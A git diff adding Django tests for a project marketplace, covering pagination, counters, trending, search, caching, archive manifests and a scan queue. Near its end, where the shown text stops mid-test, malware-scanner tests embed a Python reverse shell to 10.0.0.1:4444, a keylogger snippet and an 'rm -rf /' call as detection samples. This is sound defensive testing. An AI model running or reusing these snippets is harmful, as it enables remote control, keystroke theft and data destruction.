@@ -1,9 +1,47 @@
-from django.contrib.auth.models import User
-from django.test import TestCase, RequestFactory
+import base64
+import hashlib
+import os
+import tarfile
+import tempfile
+import subprocess
+import threading
+import time
+from datetime import timedelta
+from io import StringIO
+import zipfile
+from unittest import mock, skipUnless
+
+import requests
+from django.contrib.auth.models import AnonymousUser, User
+from django.core.management import call_command
+from django.db import connection
+from django.test import TestCase, TransactionTestCase, RequestFactory, override_settings
+from django.test.utils import CaptureQueriesContext
 from django.urls import reverse, resolve
+from django.utils import timezone
 
+from .ai_assistant import AnswerCache, normalize_question
+from .archive_manifest import build_manifest, extract_project_manifest
+from .archive_scan import scan_archive
+from . import admission, compiler, sandbox
+from .compiler_cache import ResultCache, is_deterministic
+from .code_viewer import read_lines, LOCKED_PREVIEW_LINES
 from .context_processors import seo_defaults
-from .models import Project
+from .models import (Project, Comment, Review, ProjectActivity, Sync, FeedEntry, ScanJob, ScanVerdict,
+                     CompilerRun, CodeIndex, TelegramMessage, Transaction, bump_suggest_generation)
+from .http_client import CircuitBreaker, CircuitOpenError, Dependency, get_client
+from .pagination import KeysetPaginator, POPULAR_KEYS, NEWEST_KEYS
+from .prescan import DANGER, SAFE, UNSURE, prescan_text
+from .chunk_scan import CHUNK_BYTES, RateLimiter, iter_chunks, scan_chunks
+from .code_index import CodeIndexData, build_project_index, retrieve
+from .scan_pipeline import ScanArtifact, decide_verdict, run_security_scan
+from .scan_queue import ScanWorker, claim_jobs, enqueue_scan, fail_job, PRIORITY_HIGH
+from .security import _MultipartFile
+from .source_cache import SourceCache
+from .suggest import PrefixIndex, VERSION_CHECK_SECONDS, current_generation, get_suggest_index, suggest_index
+from .telegram_outbox import ChatRateLimiter, TelegramDispatcher, claim_batch, enqueue
+from .trending import bucket_score
+from .view_counter import ViewCounterBuffer, view_counter
 from .views import _search_projects, global_search, robots_txt
 
 
@@ -62,3 +100,1568 @@ class SeoAndSearchTests(TestCase):
 
         self.assertEqual(seo['robots'], 'noindex, nofollow')
 
+
+
+class KeysetPaginationTests(TestCase):
+    def setUp(self):
+        self.user = User.objects.create_user(username='bob', password='testpass123')
+        for i in range(30):
+            Project.objects.create(
+                author=self.user,
+                title=f'Loyiha {i}',
+                description='test',
+                image='project_thumbnails/test.jpg',
+                youtube_link='https://youtu.be/dQw4w9WgXcQ',
+                views=i % 5,
+            )
+
+    def test_cursor_walks_all_projects_without_duplicates(self):
+        queryset = Project.objects.filter(is_frozen=False)
+        paginator = KeysetPaginator(queryset, POPULAR_KEYS, page_size=7)
+
+        seen, cursor = [], None
+        while True:
+            page = paginator.get_page(cursor)
+            seen.extend(p.pk for p in page)
+            if not page.has_next:
+                break
+            cursor = page.next_cursor
+
+        expected = list(queryset.order_by('-views', '-id').values_list('pk', flat=True))
+        self.assertEqual(seen, expected)
+
+    def test_invalid_cursor_falls_back_to_first_page(self):
+        paginator = KeysetPaginator(Project.objects.all(), NEWEST_KEYS, page_size=5)
+        self.assertEqual(
+            [p.pk for p in paginator.get_page('buzilgan!!')],
+            [p.pk for p in paginator.get_page()],
+        )
+
+    def test_home_load_more_returns_fragment(self):
+        response = self.client.get(reverse('home'))
+        self.assertEqual(len(response.context['projects']), 24)
+        next_cursor = response.context['next_cursor']
+        self.assertTrue(next_cursor)
+
+        response = self.client.get(reverse('home'), {'cursor': next_cursor},
+                                   HTTP_X_REQUESTED_WITH='XMLHttpRequest')
+        data = response.json()
+        self.assertIsNone(data['next_cursor'])
+        self.assertEqual(data['html'].count('class="project-card"'), 6)
+
+
+class EngagementCounterTests(TestCase):
+    def setUp(self):
+        self.author = User.objects.create_user(username='author', password='testpass123')
+        self.fan = User.objects.create_user(username='fan', password='testpass123')
+        self.project = Project.objects.create(
+            author=self.author,
+            title='Counter loyiha',
+            description='test',
+            image='project_thumbnails/test.jpg',
+            youtube_link='https://youtu.be/dQw4w9WgXcQ',
+        )
+
+    def test_like_toggle_updates_counter(self):
+        self.client.login(username='fan', password='testpass123')
+        url = reverse('like_project', args=[self.project.pk])
+
+        self.assertEqual(self.client.post(url).json()['total_likes'], 1)
+        self.assertEqual(self.client.post(url).json()['total_likes'], 0)
+
+    def test_m2m_comment_and_review_counters(self):
+        self.project.saved_by.add(self.fan)
+        self.fan.bought_projects.add(self.project)
+        Comment.objects.create(project=self.project, user=self.fan, body='Zo\'r')
+        review = Review.objects.create(project=self.project, user=self.fan, rating=8, comment='ok')
+        review.rating = 6
+        review.save()
+
+        self.project.refresh_from_db()
+        self.assertEqual((self.project.saves_count, self.project.buyers_count, self.project.comments_count), (1, 1, 1))
+        self.assertEqual((self.project.rating_count, self.project.rating_sum), (1, 6))
+        self.assertEqual(self.project.average_rating, 6)
+
+        review.delete()
+        self.project.saved_by.clear()
+        self.project.refresh_from_db()
+        self.assertEqual((self.project.saves_count, self.project.rating_count, self.project.rating_sum), (0, 0, 0))
+
+    def test_stale_save_does_not_overwrite_counters(self):
+        stale = Project.objects.get(pk=self.project.pk)
+        self.project.likes.add(self.fan)
+        stale.title = 'Yangi nom'
+        stale.save()
+
+        self.project.refresh_from_db()
+        self.assertEqual(self.project.likes_count, 1)
+
+    def test_copy_with_cleared_pk_inserts_new_row(self):
+        copy = Project.objects.get(pk=self.project.pk)
+        copy.pk, copy.slug = None, ''
+        copy.save()
+        self.assertNotEqual(copy.pk, self.project.pk)
+        self.assertEqual(Project.objects.filter(title='Counter loyiha').count(), 2)
+
+    def test_recount_command_repairs_drift(self):
+        self.project.likes.add(self.fan)
+        Project.objects.filter(pk=self.project.pk).update(likes_count=42, comments_count=7)
+
+        call_command('recount_project_stats', stdout=StringIO())
+
+        self.project.refresh_from_db()
+        self.assertEqual((self.project.likes_count, self.project.comments_count), (1, 0))
+
+
+class ViewCounterTests(TestCase):
+    def setUp(self):
+        self.user = User.objects.create_user(username='viewer', password='testpass123')
+        self.projects = [
+            Project.objects.create(
+                author=self.user,
+                title=f'Views {i}',
+                description='test',
+                image='project_thumbnails/test.jpg',
+                youtube_link='https://youtu.be/dQw4w9WgXcQ',
+            )
+            for i in range(2)
+        ]
+
+    def test_buffer_coalesces_into_single_update(self):
+        buffer = ViewCounterBuffer(flush_interval=3600, flush_every=1000)
+        first, second = self.projects
+        for _ in range(3):
+            buffer.record(first.pk)
+        buffer.record(second.pk)
+        self.assertEqual(buffer.pending(first.pk), 3)
+
+        with CaptureQueriesContext(connection) as ctx:
+            self.assertEqual(buffer.flush(), 4)
+        project_updates = [q for q in ctx.captured_queries if q['sql'].startswith('UPDATE "projects_project"')]
+        self.assertEqual(len(project_updates), 1)
+
+        self.assertEqual(Project.objects.get(pk=first.pk).views, 3)
+        self.assertEqual(Project.objects.get(pk=second.pk).views, 1)
+        self.assertEqual(buffer.pending(first.pk), 0)
+
+    def test_buffer_flushes_after_hit_threshold(self):
+        buffer = ViewCounterBuffer(flush_interval=3600, flush_every=2)
+        buffer.record(self.projects[0].pk)
+        buffer.record(self.projects[0].pk)
+        self.assertEqual(Project.objects.get(pk=self.projects[0].pk).views, 2)
+
+    def test_idle_buffer_is_flushed_by_background_timer(self):
+        buffer = ViewCounterBuffer(flush_interval=0.05, flush_every=1000)
+        with mock.patch.object(buffer, 'flush') as flush:
+            buffer._last_flush = time.monotonic() + 60  # record() o'zi flush qilmasin
+            buffer.record(self.projects[0].pk)
+            flush.assert_not_called()
+            buffer._last_flush = time.monotonic() - 1  # Keyingi ko'rish kelmaydi - fon oqimi yozadi
+            deadline = time.monotonic() + 2
+            while not flush.called and time.monotonic() < deadline:
+                time.sleep(0.01)
+        self.assertTrue(flush.called)
+
+    def test_failed_flush_keeps_views_for_retry(self):
+        buffer = ViewCounterBuffer(flush_interval=0, flush_every=1000)
+        project = self.projects[0]
+        buffer.record(project.pk)
+        buffer.record(project.pk)
+        self.assertIsNone(buffer._timer)  # flush_interval=0: fon oqimi yo'q
+
+        with mock.patch('projects.models.record_activity_batch', side_effect=RuntimeError('baza band')):
+            self.assertEqual(buffer.flush(), 0)
+        self.assertEqual(Project.objects.get(pk=project.pk).views, 0)  # UPDATE ham qaytarildi
+        self.assertEqual(buffer.pending(project.pk), 2)
+
+        self.assertEqual(buffer.flush(), 2)
+        self.assertEqual(Project.objects.get(pk=project.pk).views, 2)
+        self.assertEqual(ProjectActivity.objects.get(project=project).views, 2)
+
+    def test_detail_page_includes_unflushed_views(self):
+        project = self.projects[0]
+        before = view_counter.pending(project.pk)
+        response = self.client.get(project.get_absolute_url())
+        self.assertEqual(response.context['project'].views, before + 1)
+        view_counter.flush()
+
+
+class TrendingScoreTests(TestCase):
+    def setUp(self):
+        self.user = User.objects.create_user(username='trender', password='testpass123')
+        self.fan = User.objects.create_user(username='follower1', password='testpass123')
+        self.old_hit, self.fresh = [
+            Project.objects.create(
+                author=self.user,
+                title=title,
+                description='test',
+                image='project_thumbnails/test.jpg',
+                youtube_link='https://youtu.be/dQw4w9WgXcQ',
+                views=views,
+            )
+            for title, views in (('Eski hit', 10000), ('Yangi loyiha', 5))
+        ]
+
+    def test_activity_is_recorded_from_write_paths(self):
+        self.fresh.likes.add(self.fan)
+        Comment.objects.create(project=self.fresh, user=self.fan, body='Zo\'r')
+        buffer = ViewCounterBuffer(flush_interval=3600, flush_every=1000)
+        buffer.record(self.fresh.pk)
+        buffer.record(self.fresh.pk)
+        buffer.flush()
+
+        activity = ProjectActivity.objects.get(project=self.fresh)
+        self.assertEqual((activity.views, activity.likes, activity.comments), (2, 1, 1))
+
+    def test_recent_activity_beats_all_time_views(self):
+        now = timezone.now()
+        ProjectActivity.objects.create(project=self.fresh, bucket=now - timedelta(hours=1), likes=3, views=20)
+        # Oynadan tashqaridagi faollik hisobga olinmaydi va o'chiriladi
+        ProjectActivity.objects.create(project=self.old_hit, bucket=now - timedelta(days=30), views=5000)
+        Project.objects.filter(pk=self.old_hit.pk).update(trending_score=99)
+
+        call_command('update_trending', stdout=StringIO())
+
+        self.old_hit.refresh_from_db()
+        self.fresh.refresh_from_db()
+        self.assertEqual(self.old_hit.trending_score, 0)
+        self.assertGreater(self.fresh.trending_score, 0)
+        self.assertFalse(ProjectActivity.objects.filter(project=self.old_hit).exists())
+
+        response = self.client.get(reverse('trending'))
+        self.assertEqual(response.context['projects'][0], self.fresh)
+
+    def test_older_activity_decays(self):
+        now = timezone.now()
+        recent = {'bucket': now - timedelta(hours=1), 'views': 10, 'likes': 0, 'comments': 0, 'purchases': 0}
+        older = dict(recent, bucket=now - timedelta(hours=49))
+        self.assertGreater(bucket_score(recent, now), 3 * bucket_score(older, now))
+
+
+class SearchBackendTests(TestCase):
+    def setUp(self):
+        self.user = User.objects.create_user(username='qidiruvchi', password='testpass123')
+
+    def _project(self, title, description='test', **extra):
+        return Project.objects.create(
+            author=self.user,
+            title=title,
+            description=description,
+            image='project_thumbnails/test.jpg',
+            youtube_link='https://youtu.be/dQw4w9WgXcQ',
+            **extra,
+        )
+
+    def test_title_match_ranks_above_description_match(self):
+        in_description = self._project('Oddiy loyiha', 'Ichida telegram integratsiyasi bor')
+        in_title = self._project('Telegram Bot', 'Bot loyihasi')
+
+        results = list(_search_projects('telegram'))
+        self.assertEqual(results, [in_title, in_description])
+
+    def test_index_follows_edits_and_deletes(self):
+        project = self._project('Eski nom')
+        project.title = 'Kalkulyator ilovasi'
+        project.save()
+
+        self.assertFalse(_search_projects('Eski').exists())
+        self.assertTrue(_search_projects('kalkul').filter(pk=project.pk).exists())
+
+        project.delete()
+        self.assertFalse(_search_projects('kalkulyator').exists())
+
+    def test_home_search_keeps_filters_and_paginates(self):
+        for i in range(30):
+            self._project(f'Django sayt {i}', category='web' if i % 2 else 'ai')
+        self._project('Django muzlatilgan', is_frozen=True)
+
+        response = self.client.get(reverse('home'), {'q': 'django', 'category': 'web'})
+        first_page = response.context['projects']
+        self.assertEqual(len(first_page), 15)
+        self.assertTrue(all(p.category == 'web' and not p.is_frozen for p in first_page))
+
+        response = self.client.get(reverse('home'), {'q': 'django'})
+        self.assertEqual(len(response.context['projects']), 24)
+        data = self.client.get(reverse('home'), {'q': 'django', 'cursor': response.context['next_cursor']},
+                               HTTP_X_REQUESTED_WITH='XMLHttpRequest').json()
+        self.assertEqual(data['html'].count('class="project-card"'), 6)
+
+
+class SearchSuggestTests(TestCase):
+    def setUp(self):
+        suggest_index.__init__()  # Har bir test toza indeks bilan boshlanadi
+        self.user = User.objects.create_user(username='botmaster', password='testpass123')
+
+    def _project(self, title, **extra):
+        return Project.objects.create(
+            author=self.user,
+            title=title,
+            description='test',
+            image='project_thumbnails/test.jpg',
+            youtube_link='https://youtu.be/dQw4w9WgXcQ',
+            **extra,
+        )
+
+    def test_prefix_matches_title_words_and_orders_by_score(self):
+        index = PrefixIndex()
+        index.build([(1, 'Python Bot', 'python-bot', 5), (2, 'Telegram bot', 'telegram-bot', 50),
+                     (3, 'Kalkulyator', 'kalkulyator', 99)], [(7, 'botir')])
+
+        texts = [s['text'] for s in index.suggest('BOT')]
+        self.assertEqual(texts, ['Telegram bot', 'Python Bot', 'botir'])
+        self.assertEqual(index.suggest('kalk')[0]['url'], reverse('project_detail', args=['kalkulyator']))
+        self.assertEqual(index.suggest('xyz'), [])
+
+    def test_endpoint_follows_saves_without_queries(self):
+        project = self._project('Oshxona boti')
+        frozen = self._project('Oshxona yashirin', is_frozen=True)
+        self.client.get(reverse('search_suggest'), {'q': 'osh'})  # Indeks shu yerda quriladi
+
+        project.title = 'Restoran boti'
+        project.save()
+        User.objects.create_user(username='oshpaz')
+
+        with CaptureQueriesContext(connection) as ctx:
+            data = self.client.get(reverse('search_suggest'), {'q': 'osh'}).json()
+        self.assertEqual(len(ctx.captured_queries), 0)
+        self.assertEqual([s['text'] for s in data['suggestions']], ['oshpaz'])
+        self.assertNotIn(frozen.title, str(data))
+
+        texts = [s['text'] for s in self.client.get(reverse('search_suggest'), {'q': 'rest'}).json()['suggestions']]
+        self.assertEqual(texts, ['Restoran boti'])
+
+    def test_popular_queries_become_suggestions(self):
+        url = reverse('search_suggest')
+        self.client.get(url, {'q': 'x'})
+        for _ in range(5):  # Bitta mijozning takroriy qidiruvi ommaviy taklif bo'lmaydi
+            self.client.get(reverse('global_search'), {'q': 'Django blog'}, REMOTE_ADDR='10.0.0.1')
+        self.assertEqual(self.client.get(url, {'q': 'djan'}).json()['suggestions'], [])
+
+        for ip in ('10.0.0.2', '10.0.0.3'):
+            self.client.get(reverse('global_search'), {'q': 'Django blog'}, REMOTE_ADDR=ip)
+        suggestions = self.client.get(url, {'q': 'djan'}).json()['suggestions']
+        self.assertIn({'type': 'query', 'text': 'django blog', 'url': None}, suggestions)
+
+    def test_index_rebuilds_after_change_in_another_worker(self):
+        project = self._project('Oshxona boti')
+        get_suggest_index()
+        # Boshqa worker: loyihani muzlatdi (bu jarayonda signal yo'q) va versiyani oshirdi
+        Project.objects.filter(pk=project.pk).update(is_frozen=True)
+        with self.captureOnCommitCallbacks(execute=True):
+            bump_suggest_generation()
+        self.assertEqual(len(get_suggest_index().suggest('osh')), 1)  # Tekshiruv muddati hali kelmagan
+
+        suggest_index.checked_at -= VERSION_CHECK_SECONDS
+        with mock.patch('projects.suggest.threading.Thread') as thread, \
+                CaptureQueriesContext(connection) as ctx:
+            self.assertEqual(len(get_suggest_index().suggest('osh')), 1)  # So'rov qayta qurishni kutmaydi
+        self.assertEqual(len(ctx.captured_queries), 0)
+        thread.call_args.kwargs['target']()  # Fon oqimi
+        self.assertEqual(get_suggest_index().suggest('osh'), [])
+
+    def test_only_indexed_field_changes_bump_generation(self):
+        project = self._project('Oshxona boti')
+        project = Project.objects.get(pk=project.pk)
+        with self.captureOnCommitCallbacks(execute=True) as callbacks:
+            project.security_status, project.description = 'safe', 'Yangi tavsif'  # Skan hukmi, tahrir
+            project.save()
+            self.user.last_name = 'Botirov'
+            self.user.save()
+        self.assertEqual(callbacks, [])
+
+        with self.captureOnCommitCallbacks(execute=True):
+            project.title = 'Restoran boti'
+            project.save()
+        self.assertEqual(current_generation(), 1)
+
+
+class FollowerFeedTests(TestCase):
+    def setUp(self):
+        self.author = User.objects.create_user(username='muallif', password='testpass123')
+        self.reader = User.objects.create_user(username='oquvchi', password='testpass123')
+
+    def _project(self, title, **extra):
+        return Project.objects.create(
+            author=self.author,
+            title=title,
+            description='test',
+            image='project_thumbnails/test.jpg',
+            youtube_link='https://youtu.be/dQw4w9WgXcQ',
+            **extra,
+        )
+
+    def test_sync_backfills_and_new_projects_fan_out(self):
+        old = self._project('Eski loyiha')
+        sync = Sync.objects.create(follower=self.reader.profile, following=self.author.profile)
+        new = self._project('Yangi loyiha')
+
+        entries = FeedEntry.objects.filter(owner=self.reader)
+        self.assertEqual(set(entries.values_list('project_id', flat=True)), {old.pk, new.pk})
+
+        sync.delete()
+        self.assertFalse(FeedEntry.objects.filter(owner=self.reader).exists())
+
+    def test_feed_page_and_api_paginate_newest_first(self):
+        Sync.objects.create(follower=self.reader.profile, following=self.author.profile)
+        projects = [self._project(f'Loyiha {i}') for i in range(30)]
+        self._project('Muzlatilgan', is_frozen=True)
+        self.client.login(username='oquvchi', password='testpass123')
+
+        response = self.client.get(reverse('syncing'))
+        first = response.context['projects']
+        self.assertEqual([p.pk for p in first], [p.pk for p in reversed(projects)][:24])
+
+        data = self.client.get(reverse('api_feed'), {'cursor': response.context['next_cursor']}).json()
+        self.assertEqual([p['id'] for p in data['results']], [p.pk for p in reversed(projects[:6])])
+        self.assertIsNone(data['next_cursor'])
+
+
+class SourceCacheTests(TestCase):
+    def setUp(self):
+        self.tmp = tempfile.TemporaryDirectory()
+        self.cache = SourceCache(root=self.tmp.name, max_bytes=10, revalidate_seconds=60)
+
+    def tearDown(self):
+        self.tmp.cleanup()
+
+    def _response(self, status=200, content=b'', etag=None):
+        return mock.MagicMock(status_code=status, iter_content=lambda chunk_size: [content],
+                              headers={'ETag': etag} if etag else {})
+
+    def test_repeat_reads_hit_disk_and_revalidate_with_etag(self):
+        with mock.patch.object(get_client('cloudinary'), 'get', return_value=self._response(content=b'print(1)', etag='"v1"')) as get:
+            self.assertEqual(self.cache.fetch('raw/a.py', 'https://cdn/a.py'), b'print(1)')
+            self.assertEqual(self.cache.fetch('raw/a.py', 'https://cdn/a.py'), b'print(1)')
+        self.assertEqual(get.call_count, 1)
+
+        self.cache.revalidate_seconds = 0
+        not_modified = self._response(304)
+        with mock.patch.object(get_client('cloudinary'), 'get', return_value=not_modified) as get:
+            self.assertEqual(self.cache.fetch('raw/a.py', 'https://cdn/a.py'), b'print(1)')
+        self.assertEqual(get.call_args.kwargs['headers'], {'If-None-Match': '"v1"'})
+        self.assertEqual(self.cache.stats()['hit_ratio'], round(2 / 3, 3))
+        not_modified.__exit__.assert_called_once()  # stream=True javob ulanishi pulga qaytdi
+
+        missing = self._response(404)
+        with mock.patch.object(get_client('cloudinary'), 'get', return_value=missing):
+            self.assertIsNone(self.cache.fetch('raw/yoq.py', 'https://cdn/yoq.py'))
+        missing.__exit__.assert_called_once()
+
+    def test_concurrent_misses_fetch_once(self):
+        def slow_get(*args, **kwargs):
+            time.sleep(0.1)
+            return self._response(content=b'x')
+
+        with mock.patch.object(get_client('cloudinary'), 'get', side_effect=slow_get) as get:
+            threads = [threading.Thread(target=self.cache.fetch, args=('raw/b.py', 'https://cdn/b.py'))
+                       for _ in range(5)]
+            for t in threads:
+                t.start()
+            for t in threads:
+                t.join()
+        self.assertEqual(get.call_count, 1)
+
+    def test_lru_eviction_keeps_store_bounded(self):
+        with mock.patch.object(get_client('cloudinary'), 'get', return_value=self._response(content=b'12345678')):
+            self.cache.fetch('raw/old.py', 'https://cdn/old.py')
+        old_blob = self.cache._blob_path(self.cache._read_meta('raw/old.py')['sha256'])
+        os.utime(old_blob, (time.time() - 100, time.time() - 100))
+        with mock.patch.object(get_client('cloudinary'), 'get', return_value=self._response(content=b'abcdefgh')):
+            self.cache.fetch('raw/new.py', 'https://cdn/new.py')
+        self.assertIsNone(self.cache._read_meta('raw/old.py'))
+        self.assertIsNotNone(self.cache._read_meta('raw/new.py'))
+
+    def test_eviction_skips_downloads_in_progress(self):
+        self.cache.max_bytes = 100
+        downloading = []
+
+        def chunks(chunk_size):
+            yield b'12345678'
+            # Yuklash o'rtasida boshqa oqim LRU ni ishga tushiradi: .part fayl blobs/ da emas
+            downloading.extend(os.listdir(os.path.join(self.tmp.name, 'tmp')))
+            self.cache.max_bytes = 0
+            self.cache._evict()
+            self.cache.max_bytes = 100
+            yield b'90abcdef'
+        response = self._response()
+        response.iter_content = chunks
+        with mock.patch.object(get_client('cloudinary'), 'get', return_value=response):
+            self.assertEqual(self.cache.fetch('raw/big.py', 'https://cdn/big.py'), b'1234567890abcdef')
+        self.assertEqual(len(downloading), 1)
+        self.assertTrue(downloading[0].endswith('.part'))
+
+        # blobs/ dagi begona fayllar hajmga kirmaydi va o'chirilmaydi
+        stray = os.path.join(self.tmp.name, 'blobs', 'eski.part')
+        with open(stray, 'wb') as f:
+            f.write(b'x' * 1000)
+        self.cache._evict()
+        self.assertTrue(os.path.exists(stray))
+        self.assertIsNotNone(self.cache._read_meta('raw/big.py'))
+
+
+class CodeViewerTests(TestCase):
+    def setUp(self):
+        self.tmp = tempfile.TemporaryDirectory()
+        self.path = os.path.join(self.tmp.name, 'main.py')
+        with open(self.path, 'wb') as f:
+            f.write(''.join(f'print({i})  # ўзбек\r\n' for i in range(1000)).encode())
+        self.cache = SourceCache(root=os.path.join(self.tmp.name, 'cache'))
+        patcher = mock.patch('projects.code_viewer.get_source_cache', return_value=self.cache)
+        patcher.start()
+        self.addCleanup(patcher.stop)
+
+    def tearDown(self):
+        self.tmp.cleanup()
+
+    def test_reads_ranges_via_persisted_line_index(self):
+        page = read_lines(self.path, 998, 10)
+        self.assertEqual(page['lines'], ['print(998)  # ўзбек', 'print(999)  # ўзбек'])
+        self.assertEqual((page['end'], page['total_lines'], page['has_more']), (1000, 1000, False))
+        # Indeks storage fayli yonida (MEDIA_ROOT) emas, kesh ildizida
+        self.assertEqual(sorted(os.listdir(self.tmp.name)), ['cache', 'main.py'])
+        self.assertEqual(len(os.listdir(os.path.join(self.cache.root, 'lines'))), 1)
+        self.assertEqual(read_lines(self.path, 0, 2)['lines'][1], 'print(1)  # ўзбек')
+
+        # Kesh blobi uchun kalit - uning sha256 nomi; blob LRU dan chiqsa indeks ham o'chadi
+        sha = hashlib.sha256(b'a\nb\n').hexdigest()
+        with open(self.cache._blob_path(sha), 'wb') as f:
+            f.write(b'a\nb\n')
+        self.assertEqual(read_lines(self.cache._blob_path(sha))['lines'], ['a', 'b'])
+        self.assertTrue(os.path.exists(self.cache.line_index_path(sha)))
+        self.cache.max_bytes = 1
+        self.cache._evict()
+        self.assertFalse(os.path.exists(self.cache.line_index_path(sha)))
+
+    def test_endpoint_limits_premium_preview(self):
+        author = User.objects.create_user(username='kodchi', password='testpass123')
+        project = Project.objects.create(
+            author=author, title='Premium kod', description='test', price=5, source_code='raw/main.py',
+            image='project_thumbnails/test.jpg', youtube_link='https://youtu.be/dQw4w9WgXcQ',
+        )
+        url = reverse('project_code', args=[project.slug])
+        with mock.patch('projects.views.get_source_cache') as cache:
+            cache.return_value.get_path.return_value = self.path
+            locked = self.client.get(url, {'start': 0, 'count': 100}).json()
+            self.client.login(username='kodchi', password='testpass123')
+            full = self.client.get(url, {'start': 200, 'count': 200}).json()
+
+        self.assertEqual(len(locked['lines']), LOCKED_PREVIEW_LINES)
+        self.assertFalse(locked['has_more'])
+        self.assertEqual(full['lines'][0], 'print(200)  # ўзбек')
+        self.assertTrue(full['has_more'])
+
+
+class ArchiveManifestTests(TestCase):
+    def setUp(self):
+        self.tmp = tempfile.TemporaryDirectory()
+
+    def tearDown(self):
+        self.tmp.cleanup()
+
+    def _write(self, name, build):
+        path = os.path.join(self.tmp.name, name)
+        build(path)
+        return path
+
+    def test_zip_manifest_has_tree_languages_and_previews(self):
+        def build(path):
+            with zipfile.ZipFile(path, 'w') as z:
+                z.writestr('app/main.py', 'import os\n' * 50)
+                z.writestr('app/static/style.css', 'body {}')
+                z.writestr('README.md', '# Loyiha\nTavsif')
+                z.writestr('__MACOSX/._main.py', 'x')
+
+        manifest = build_manifest(self._write('p.zip', build), 'project_code/p.zip')
+        self.assertEqual([f['path'] for f in manifest['files']], ['app/main.py', 'app/static/style.css', 'README.md'])
+        self.assertEqual(manifest['languages'][0]['name'], 'Python')
+        self.assertEqual([p['path'] for p in manifest['previews']], ['README.md', 'app/main.py'])
+        self.assertEqual(manifest['previews'][1]['head'].count('\n'), 29)  # PREVIEW_LINES
+
+    def test_tar_gz_is_streamed_and_saved_without_overwrite(self):
+        def build(path):
+            src = os.path.join(self.tmp.name, 'index.html')
+            with open(src, 'w') as f:
+                f.write('<h1>Salom</h1>')
+            with tarfile.open(path, 'w:gz') as t:
+                t.add(src, arcname='site/index.html')
+
+        path = self._write('site.tar.gz', build)
+        author = User.objects.create_user(username='arxivchi')
+        project = Project.objects.create(
+            author=author, title='Arxiv', description='test', source_code='project_code/site.tar.gz',
+            image='project_thumbnails/test.jpg', youtube_link='https://youtu.be/dQw4w9WgXcQ',
+        )
+        with mock.patch('projects.source_cache.SourceCache.get_path', return_value=path):
+            extract_project_manifest(Project.objects.get(pk=project.pk))
+        project.title = 'Arxiv (tahrir)'
+        project.save()  # Eski obyekt manifestni None bilan ustidan yozmasligi kerak
+
+        manifest = Project.objects.get(pk=project.pk).source_manifest
+        self.assertEqual(manifest['format'], 'tar')
+        self.assertEqual(manifest['files'], [{'path': 'site/index.html', 'size': 14}])
+        self.assertEqual(manifest['previews'][0]['head'], '<h1>Salom</h1>')
+
+        with mock.patch('projects.views.get_source_cache') as cache:
+            response = self.client.get(reverse('project_detail', args=[project.slug]))
+        cache.return_value.get_path.assert_not_called()  # Sahifa arxivni yuklamaydi
+        self.assertContains(response, 'site/index.html')
+
+
+    def test_api_hides_previews_of_paid_project_from_non_buyers(self):
+        author, buyer = User.objects.create_user(username='sotuvchi'), User.objects.create_user(username='xaridor')
+        project = Project.objects.create(
+            author=author, title='Pullik arxiv', description='test', price=5, image='project_thumbnails/test.jpg',
+            youtube_link='https://youtu.be/dQw4w9WgXcQ',
+        )
+        Project.objects.filter(pk=project.pk).update(source_manifest={
+            'format': 'zip', 'files': [{'path': 'app.py', 'size': 9}],
+            'previews': [{'path': 'app.py', 'head': 'SECRET'}],
+        })
+        url = reverse('api_project_detail', args=[project.pk])
+
+        manifest = self.client.get(url).json()['source_manifest']
+        self.assertEqual(manifest['files'], [{'path': 'app.py', 'size': 9}])
+        self.assertNotIn('previews', manifest)
+
+        project.buyers.add(buyer)
+        self.client.force_login(buyer)
+        self.assertEqual(self.client.get(url).json()['source_manifest']['previews'][0]['head'], 'SECRET')
+
+class ScanQueueTests(TestCase):
+    def setUp(self):
+        self.author = User.objects.create_user(username='skanchi')
+
+    def _project(self, title):
+        return Project.objects.create(
+            author=self.author, title=title, description='test', source_code='project_code/a.py',
+            image='project_thumbnails/test.jpg', youtube_link='https://youtu.be/dQw4w9WgXcQ',
+        )
+
+    def test_enqueue_dedupes_and_claims_by_priority_once(self):
+        low, high = self._project('Oddiy'), self._project('Shoshilinch')
+        enqueue_scan(low.pk)
+        enqueue_scan(high.pk)
+        enqueue_scan(high.pk, priority=PRIORITY_HIGH)
+        self.assertEqual(ScanJob.objects.count(), 2)
+
+        first = claim_jobs('w1', 1)
+        self.assertEqual([j.project_id for j in first], [high.pk])
+        self.assertEqual([j.project_id for j in claim_jobs('w2', 5)], [low.pk])
+        self.assertEqual(claim_jobs('w3', 5), [])
+        # Bajarilayotgan ish eski faylni o'qigan - qayta yuklash uchun alohida (bitta) QUEUED ish
+        again = enqueue_scan(low.pk)
+        self.assertEqual(again.status, ScanJob.QUEUED)
+        self.assertEqual(enqueue_scan(low.pk).pk, again.pk)
+        self.assertEqual(ScanJob.objects.count(), 3)
+
+        # Worker o'lsa (lease tugasa) ish boshqa workerga o'tadi
+        ScanJob.objects.filter(pk=first[0].pk).update(lease_expires=timezone.now() - timedelta(seconds=1))
+        self.assertEqual([j.pk for j in claim_jobs('w3', 5)], [first[0].pk, again.pk])
+
+    def test_failures_back_off_then_mark_project_warning(self):
+        project = self._project('Xatoli')
+        job = enqueue_scan(project.pk)
+        ScanJob.objects.filter(pk=job.pk).update(max_attempts=2)
+
+        job = claim_jobs('w1', 1)[0]
+        fail_job(job, 'w1', 'Timeout')
+        job.refresh_from_db()
+        self.assertEqual(job.status, ScanJob.QUEUED)
+        self.assertGreater(job.run_after, timezone.now())
+
+        ScanJob.objects.filter(pk=job.pk).update(run_after=timezone.now())
+        job = claim_jobs('w1', 1)[0]
+        fail_job(job, 'w1', 'Timeout')
+        job.refresh_from_db()
+        project.refresh_from_db()
+        self.assertEqual((job.status, job.attempts), (ScanJob.FAILED, 2))
+        self.assertEqual((project.is_scanned, project.security_status), (True, 'warning'))
+
+
+class PrescanTests(TestCase):
+    def test_python_ast_rules(self):
+        reverse_shell = (
+            'import socket, subprocess, os as o\n'
+            's = socket.socket(); s.connect(("10.0.0.1", 4444))\n'
+            'o.dup2(s.fileno(), 0)\n'
+            'subprocess.call(["/bin/sh"])\n'
+        )
+        self.assertEqual(prescan_text(reverse_shell, 'a.py').verdict, DANGER)
+        keylogger = 'from pynput import keyboard\nimport smtplib\nkeyboard.Listener(on_press=print).start()\n'
+        self.assertEqual(prescan_text(keylogger, 'a.py').verdict, DANGER)
+        self.assertEqual(prescan_text('import os\nos.remove(path)\n', 'a.py').verdict, UNSURE)
+        # Taxallus va ichki blokdagi chaqiruv ham topiladi
+        hidden = 'try:\n    import os as o\nexcept ImportError:\n    o = None\n\ndef f():\n    o.system("rm -rf /")\n'
